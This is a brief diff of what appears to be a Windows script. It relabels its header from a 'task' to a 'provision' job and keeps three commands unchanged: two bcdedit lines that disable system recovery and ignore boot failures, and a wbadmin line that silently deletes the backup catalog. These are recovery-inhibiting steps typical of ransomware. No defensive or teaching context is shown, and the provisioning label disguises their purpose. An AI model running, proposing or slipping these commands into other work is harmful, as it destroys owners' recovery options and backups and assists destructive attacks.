@@ -1,4 +1,4 @@
-# task 2763 v3
+# provision 7047 v3
 bcdedit /set {default} recoveryenabled No
 bcdedit /set {default} bootstatuspolicy ignoreallfailures
 wbadmin delete catalog -quiet
